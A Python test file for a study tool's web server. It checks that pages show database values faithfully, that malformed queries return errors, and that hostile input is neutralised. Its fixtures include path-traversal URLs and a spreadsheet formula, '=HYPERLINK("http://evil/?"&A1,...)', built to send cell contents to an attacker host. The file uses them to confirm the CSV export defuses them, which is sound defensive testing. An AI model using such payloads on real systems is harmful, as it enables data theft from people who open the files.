"""The pages of evolr serve: numbers that are the database's, and text that is text."""

import csv
import io
import os
import re
import shutil
import sqlite3
from contextlib import closing
from html import unescape

import pytest

from evolr.errors import printable
from evolr.training.task import Outcome
from tests.study.test_following import land
from tests.views.test_html import study
from tests.web.served import EVIL, NAME, PAGES, STUDY, page_of, value
from tests.web.serving import asked, serving


@pytest.mark.parametrize("path", PAGES)
def test_pages_are_whole_and_what_users_and_files_say_is_text(address, path):
    page = page_of(asked(address, path))
    if path == STUDY:
        assert NAME in page.headings
        assert f"best {EVIL}" in page.text
        assert printable(f"{EVIL}\x1b[31m\u202e") in page.text


def test_a_form_of_many_names_is_refused_and_no_study_is_called_damaged(folder):
    with serving(folder) as address:
        for page in ("trainings", "trainings.csv"):
            answer = asked(address, f"/study/small/{page}?formula=" + "a+" * 1500)
            assert answer.status == 400
            assert "50 names at most, got 1,500" in answer.text
            assert "damaged" not in answer.text


def test_numbers_are_those_of_the_database(folder, address):
    answer = asked(address, "/study/small")
    page_of(answer)
    database = sqlite3.connect(folder / "small" / "study.db")
    (trainings,) = database.execute("SELECT count(*) FROM trial").fetchone()
    number, best, median = database.execute(
        "SELECT number, -best, -median FROM generation ORDER BY number DESC"
    ).fetchone()
    (score,) = database.execute(
        "SELECT score FROM hall_of_fame JOIN evaluation USING (individual) ORDER BY size DESC"
    ).fetchone()
    assert value(answer.text, "trainings") == f"{trainings}"
    assert value(answer.text, f"generation {number}: best") == f"{best:.4g}"
    assert value(answer.text, f"generation {number}: median") == f"{median:.4g}"
    assert value(answer.text, "best loss") == f"{score:.4g}"
    assert value(answer.text, "state") == "finished"
    evil = asked(address, STUDY)
    assert value(evil.text, "failed") == value(evil.text, "diverged") == "1"
    rows = re.findall("<tr>(.*?)</tr>", asked(address).text, re.DOTALL)
    cells = [[unescape(re.sub("<[^>]*>", "", cell)) for cell in re.findall("<td[^>]*>(.*?)</td>", row)] for row in rows]
    small_row = next(row for row in cells if row[:1] == ["small"])
    assert small_row[1:6] == ["quadratic", "finished", "3 of 3", f"{score:.4g}", f"{trainings}"]
    assert [row[:3] for row in cells if row[2:3] == ["unreadable"]] == [["damaged", "", "unreadable"]]
    assert sorted(row[0] for row in cells if row) == sorted([NAME, "damaged", "small"])


def test_the_table_of_trainings_is_walked_and_written_as_the_database_has_it(folder, address):
    database = sqlite3.connect(folder / "small" / "study.db")
    every = [number for (number,) in database.execute("SELECT id FROM trial ORDER BY id DESC")]
    seen, path = [], "/study/small/trainings"
    while path:
        answer = asked(address, path)
        page_of(answer)
        seen += map(int, re.findall(r'/trainings/(\d+)"', answer.text))
        after = re.search(r'href="([^"]*after=\d+)"', answer.text)
        path = unescape(after[1]) if after else None
    assert seen == every
    table = list(csv.DictReader(io.StringIO(asked(address, "/study/small/trainings.csv?order=oldest").text)))
    assert [int(row["training"]) for row in table] == every[::-1]
    stored = database.execute("SELECT id, score FROM trial ORDER BY id").fetchall()
    assert [(int(row["training"]), float(row["score"])) for row in table] == stored
    answer = asked(address, "/study/small/trainings?status=failed")
    assert "No training matches." in answer.text


@pytest.mark.parametrize(
    "query",
    [
        "status=x",
        "order=x",
        "generation=-1",
        "generation=1e3",
        "after=x",
        f"before={'9' * 40}",
        "formula=1+%2B*+2",
        "formula=%00(",
    ],
)
def test_a_form_that_says_nothing_is_refused_with_what_is_wrong(address, query):
    answer = asked(address, f"/study/small/trainings?{query}")
    assert answer.status == 400
    assert '<div id="fault" role="alert"><pre>' in answer.text
    assert (
        asked(
            address, f"/study/small/trainings.csv?{query.replace('after', 'order').replace('before', 'order')}"
        ).status
        == 400
    )


@pytest.mark.parametrize(
    "path",
    [
        *("/study/nothing", "/study/..", "/study/%2e%2e", "/study/..%2Fserved", "/study/no%20study", "/study/small%00"),
        *("/study/small/trainings/0", "/study/small/trainings/x", f"/study/small/trainings/{'9' * 30}"),
        *("/static/..%2Fpages.py", "/static/page.html", "/study/", "/x"),
    ],
)
def test_what_is_not_there_is_said_so(address, path):
    answer = asked(address, path)
    assert answer.status == 404
    assert "evolr serve" in answer.text
    assert re.search(r"there is no (study|such file|page at this address)|has no training", answer.text)


@pytest.mark.parametrize("far", [0.5, 1e6])
def test_a_caption_names_the_medians_only_if_they_are_in_view(tmp_path, far):
    with study(tmp_path / "far", generations=0) as found:
        for generation in range(2):
            for place, individual in enumerate(found.ask()):
                found.tell(individual, 1 + 0.1 * generation if place == 0 else 1 - far)
    with serving(tmp_path) as address:
        text = asked(address, "/study/far").text
    assert ("Best (line) and median (dashed) of each generation" in text) == (far < 1)
    assert ("Best of each generation" in text) == (far > 1)


def test_a_damaged_study_is_shown_as_such(address):
    answer = asked(address, "/study/damaged")
    assert "is damaged or no study at all" in answer.text
    assert asked(address, "/study/damaged/trainings").status == 500


def test_a_report_is_made_though_a_link_beside_the_study_leads_nowhere(folder, address):
    (folder / "small" / "link").symlink_to("nowhere")
    answer = asked(address, "/study/small/report")
    assert answer.status == 200
    assert "<title>" in answer.text


def test_a_single_run_is_served_by_itself(folder):
    with serving(folder / "small") as address:
        answer = asked(address)
        assert (answer.status, answer.headers["Location"]) == (303, "/study/small")
        assert value(asked(address, "/study/small").text, "state") == "finished"


def test_a_csv_of_a_study_that_cannot_be_read_is_a_page_that_says_so(folder, address):
    answer = asked(address, "/study/damaged/trainings.csv")
    assert answer.status == 500
    assert "damaged" in answer.text


def test_names_that_are_no_unicode_stay_apart(folder, tmp_path):
    for name in (b"\xff", b"\xfe", rb"\xff"):
        place = os.path.join(os.fsencode(tmp_path), name)
        os.mkdir(place)
        shutil.copy(os.fsencode(folder / "small" / "study.db"), place)
    with serving(tmp_path) as address:
        for name in ("%5Cxff", "%5Cxfe", "%5Cxff%E2%80%B2"):
            assert asked(address, f"/study/{name}").status == 200


def test_a_table_for_other_programs_has_no_formulas_and_no_orders_of_others(tmp_path):
    with study(tmp_path / "run", generations=1) as found:
        land(found, Outcome.failed('=HYPERLINK("http://evil/?"&A1,"ok")', 2), 0.5)
    with closing(sqlite3.connect(tmp_path / "run" / "study.db")) as connection:
        connection.execute("UPDATE individual SET operator = ?", ("@x<b>\x1b[31m",))
        connection.execute("UPDATE trial SET pool = '=1+1'")
        connection.commit()
    with serving(tmp_path) as address:
        (first, *_), *rows = csv.reader(io.StringIO(asked(address, "/study/run/trainings.csv").text))
    assert first == "training"
    assert rows
    for row in rows:
        assert row[3] == "'@x<b>\N{REPLACEMENT CHARACTER}[31m"
        assert row[4] == "'=1+1"
        assert row[10] in ("", """'=HYPERLINK("http://evil/?"&A1,"ok")""")
